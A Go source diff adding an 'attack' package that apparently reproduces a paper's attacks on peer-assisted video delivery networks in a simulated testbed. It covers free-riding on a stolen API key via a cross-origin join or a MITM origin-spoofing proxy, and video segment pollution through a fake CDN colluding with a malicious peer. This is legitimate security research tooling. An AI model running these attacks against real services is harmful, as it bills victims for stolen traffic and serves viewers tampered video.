@@ -1,0 +1,316 @@
+// Package attack implements the paper's attacks as runnable
+// orchestrations against a deployed testbed:
+//
+//   - service free riding (§IV-B): joining a PDN with a stolen API key
+//     from an unauthorized origin (cross-domain), or from a spoofed
+//     origin via a signaling MITM (domain-spoofing), and generating
+//     billable P2P traffic on the victim customer's account;
+//   - video segment pollution (§IV-C): a fake CDN + malicious peer
+//     collusion that feeds polluted-but-consistent segments into the
+//     swarm, plus the naive direct-pollution variant that the SDK's
+//     slow-start consistency check defeats.
+//
+// Nothing here requires knowledge of the PDN's internals beyond what a
+// subscriber-level attacker has: the SDK join parameters (visible in
+// any customer page) and control over the attacker's own peer and its
+// network path — exactly the paper's threat model.
+package attack
+
+import (
+	"context"
+	"fmt"
+	"net/netip"
+	"time"
+
+	"github.com/stealthy-peers/pdnsec/internal/media"
+	"github.com/stealthy-peers/pdnsec/internal/mitm"
+	"github.com/stealthy-peers/pdnsec/internal/netsim"
+	"github.com/stealthy-peers/pdnsec/internal/pdnclient"
+	"github.com/stealthy-peers/pdnsec/internal/signal"
+)
+
+// JoinProbe attempts a signaling join with the given credentials and
+// reports whether the server accepted it. It is the primitive both
+// peer-authentication tests build on.
+func JoinProbe(ctx context.Context, host *netsim.Host, server netip.AddrPort, req signal.JoinRequest) (bool, error) {
+	c, err := signal.Dial(ctx, host, server)
+	if err != nil {
+		return false, err
+	}
+	defer c.Close()
+	if _, err := c.Join(req); err != nil {
+		if _, isServer := err.(*signal.ServerError); isServer {
+			return false, nil
+		}
+		return false, err
+	}
+	return true, nil
+}
+
+// CrossDomain runs the cross-domain free-riding test: join with a
+// stolen key under the attacker's own origin. Success means the key
+// enforces no domain allowlist.
+func CrossDomain(ctx context.Context, host *netsim.Host, server netip.AddrPort, stolenKey string) (bool, error) {
+	return JoinProbe(ctx, host, server, signal.JoinRequest{
+		APIKey:    stolenKey,
+		Origin:    "https://freerider.evil",
+		Video:     "attacker-stream",
+		Rendition: "360p",
+	})
+}
+
+// DomainSpoof runs the domain-spoofing test: an unmodified join flows
+// through a MITM proxy that rewrites Origin/Referer to the victim
+// domain. proxyHost must be a host the attacker controls.
+func DomainSpoof(ctx context.Context, attacker, proxyHost *netsim.Host, server netip.AddrPort, stolenKey, victimDomain string) (bool, error) {
+	proxy := mitm.NewSignalProxy(proxyHost, server, mitm.SpoofOrigin(victimDomain))
+	if err := proxy.Serve(8443); err != nil {
+		return false, err
+	}
+	defer proxy.Close()
+	return JoinProbe(ctx, attacker, netip.AddrPortFrom(proxyHost.VisibleAddr(), 8443), signal.JoinRequest{
+		APIKey:    stolenKey,
+		Origin:    "https://freerider.evil", // rewritten in flight
+		Video:     "attacker-stream",
+		Rendition: "360p",
+	})
+}
+
+// TrafficParams configures free-riding traffic generation.
+type TrafficParams struct {
+	Network    *netsim.Network
+	SignalAddr netip.AddrPort
+	STUNAddr   netip.AddrPort
+	// CDNBase serves the attacker's own video (its stream that victims'
+	// PDN subscription now pays to distribute).
+	CDNBase   string
+	StolenKey string
+	Origin    string // origin to claim (spoofed or attacker-owned)
+	Video     string
+	Rendition string
+	// Hosts are the attacker's peer machines; the first seeds from the
+	// CDN, the rest leech over P2P.
+	Hosts []*netsim.Host
+	// SegmentsPerPeer bounds each peer's playback.
+	SegmentsPerPeer int
+}
+
+// TrafficResult reports what the free riders moved.
+type TrafficResult struct {
+	SeederStats  pdnclient.Stats
+	LeechStats   []pdnclient.Stats
+	P2PBytes     int64 // total P2P bytes generated (billed to the victim)
+	P2PSegments  int
+	CDNSegments  int
+	JoinAccepted bool
+}
+
+// GenerateTraffic free-rides the PDN: attacker peers watch the
+// attacker's own stream under the victim's key, generating P2P traffic
+// that the provider meters against the victim customer.
+func GenerateTraffic(ctx context.Context, p TrafficParams) (TrafficResult, error) {
+	var res TrafficResult
+	if len(p.Hosts) < 2 {
+		return res, fmt.Errorf("attack: need at least 2 hosts, got %d", len(p.Hosts))
+	}
+	mk := func(host *netsim.Host, seed int64, linger time.Duration) (*pdnclient.Peer, error) {
+		return pdnclient.New(pdnclient.Config{
+			Host:        host,
+			Network:     p.Network,
+			SignalAddr:  p.SignalAddr,
+			STUNAddr:    p.STUNAddr,
+			CDNBase:     p.CDNBase,
+			APIKey:      p.StolenKey,
+			Origin:      p.Origin,
+			Video:       p.Video,
+			Rendition:   p.Rendition,
+			MaxSegments: p.SegmentsPerPeer,
+			Linger:      linger,
+			Seed:        seed,
+		})
+	}
+
+	seeder, err := mk(p.Hosts[0], 1, time.Minute)
+	if err != nil {
+		return res, err
+	}
+	seedDone := make(chan pdnclient.Stats, 1)
+	go func() {
+		st, _ := seeder.Run(ctx)
+		seedDone <- st
+	}()
+	// Wait for the seeder to be ready to serve.
+	deadline := time.Now().Add(30 * time.Second)
+	for time.Now().Before(deadline) {
+		if st := seeder.Stats(); st.SegmentsPlayed >= p.SegmentsPerPeer && p.SegmentsPerPeer > 0 {
+			break
+		}
+		if ctx.Err() != nil {
+			return res, ctx.Err()
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	res.JoinAccepted = seeder.ID() != ""
+
+	for i, h := range p.Hosts[1:] {
+		leech, err := mk(h, int64(i+2), 0)
+		if err != nil {
+			return res, err
+		}
+		st, err := leech.Run(ctx)
+		if err != nil {
+			return res, err
+		}
+		res.LeechStats = append(res.LeechStats, st)
+		res.P2PBytes += st.P2PDownBytes
+		res.P2PSegments += st.FromP2P
+		res.CDNSegments += st.FromCDN
+	}
+	seeder.StopLinger()
+	res.SeederStats = <-seedDone
+	res.P2PBytes += res.SeederStats.P2PUpBytes
+	return res, nil
+}
+
+// PollutionParams configures a content pollution attack.
+type PollutionParams struct {
+	Network    *netsim.Network
+	SignalAddr netip.AddrPort
+	STUNAddr   netip.AddrPort
+	// RealCDNBase is the CDN the fake CDN shadows.
+	RealCDNBase string
+	// FakeCDNHost is the attacker machine hosting the fake CDN.
+	FakeCDNHost *netsim.Host
+	// MaliciousHost runs the attacker's peer.
+	MaliciousHost *netsim.Host
+	// Credentials for the malicious peer's join.
+	APIKey   string
+	Origin   string
+	Token    string
+	VideoURL string
+
+	Video     string
+	Rendition string
+	// Pollute selects the substitution strategy: use
+	// mitm.SameSizePollution for the segment pollution attack and
+	// mitm.ForeignVideoPollution for the direct variant.
+	Pollute mitm.PolluteFunc
+	// Segments bounds the malicious peer's playback.
+	Segments int
+}
+
+// Pollution is a launched pollution attack.
+type Pollution struct {
+	FakeCDN   *mitm.FakeCDN
+	Malicious *pdnclient.Peer
+
+	done chan pdnclient.Stats
+}
+
+// LaunchPollution stands up the fake CDN and the malicious peer. The
+// malicious peer plays the stream *through the fake CDN*, caching
+// polluted segments it then serves to any victim that asks — it needs
+// no knowledge of the PDN protocol at all.
+func LaunchPollution(ctx context.Context, p PollutionParams) (*Pollution, error) {
+	fake := mitm.NewFakeCDN(p.FakeCDNHost, p.RealCDNBase, p.Pollute)
+	if err := fake.Serve(p.FakeCDNHost, 80); err != nil {
+		return nil, err
+	}
+	mal, err := pdnclient.New(pdnclient.Config{
+		Host:        p.MaliciousHost,
+		Network:     p.Network,
+		SignalAddr:  p.SignalAddr,
+		STUNAddr:    p.STUNAddr,
+		CDNBase:     "http://" + p.FakeCDNHost.VisibleAddr().String() + ":80",
+		APIKey:      p.APIKey,
+		Origin:      p.Origin,
+		Token:       p.Token,
+		VideoURL:    p.VideoURL,
+		Video:       p.Video,
+		Rendition:   p.Rendition,
+		MaxSegments: p.Segments,
+		Linger:      5 * time.Minute,
+		Seed:        666,
+	})
+	if err != nil {
+		fake.Close()
+		return nil, err
+	}
+	atk := &Pollution{FakeCDN: fake, Malicious: mal, done: make(chan pdnclient.Stats, 1)}
+	go func() {
+		st, _ := mal.Run(ctx)
+		atk.done <- st
+	}()
+	// Wait until the malicious peer has cached its polluted segments.
+	deadline := time.Now().Add(30 * time.Second)
+	for time.Now().Before(deadline) {
+		if st := mal.Stats(); p.Segments > 0 && st.SegmentsPlayed >= p.Segments {
+			return atk, nil
+		}
+		if ctx.Err() != nil {
+			atk.Close()
+			return nil, ctx.Err()
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	atk.Close()
+	return nil, fmt.Errorf("attack: malicious peer failed to seed (played %d)", mal.Stats().SegmentsPlayed)
+}
+
+// Close tears the attack down and returns the malicious peer's stats.
+func (a *Pollution) Close() pdnclient.Stats {
+	a.Malicious.StopLinger()
+	a.FakeCDN.Close()
+	select {
+	case st := <-a.done:
+		return st
+	case <-time.After(10 * time.Second):
+		return a.Malicious.Stats()
+	}
+}
+
+// VictimObservation is what a victim peer experienced during an attack.
+type VictimObservation struct {
+	Stats            pdnclient.Stats
+	PollutedSegments []media.SegmentKey
+	PlayedSegments   int
+	P2PSegments      int
+}
+
+// RunVictim plays the stream as an honest viewer and records which
+// played segments fail ground-truth verification — the reproduction's
+// automated stand-in for the paper's manual screen-recording check.
+func RunVictim(ctx context.Context, network *netsim.Network, host *netsim.Host,
+	signalAddr, stunAddr netip.AddrPort, cdnBase, apiKey, origin string,
+	video *media.Video, rendition string, segments int, seed int64) (VictimObservation, error) {
+
+	var obs VictimObservation
+	peer, err := pdnclient.New(pdnclient.Config{
+		Host:        host,
+		Network:     network,
+		SignalAddr:  signalAddr,
+		STUNAddr:    stunAddr,
+		CDNBase:     cdnBase,
+		APIKey:      apiKey,
+		Origin:      origin,
+		Video:       video.ID,
+		Rendition:   rendition,
+		MaxSegments: segments,
+		Seed:        seed,
+		OnSegment: func(key media.SegmentKey, data []byte, source string) {
+			obs.PlayedSegments++
+			if source == pdnclient.SourceP2P {
+				obs.P2PSegments++
+			}
+			if !video.Verify(key.Rendition, key.Index, data) {
+				obs.PollutedSegments = append(obs.PollutedSegments, key)
+			}
+		},
+	})
+	if err != nil {
+		return obs, err
+	}
+	st, err := peer.Run(ctx)
+	obs.Stats = st
+	return obs, err
+}
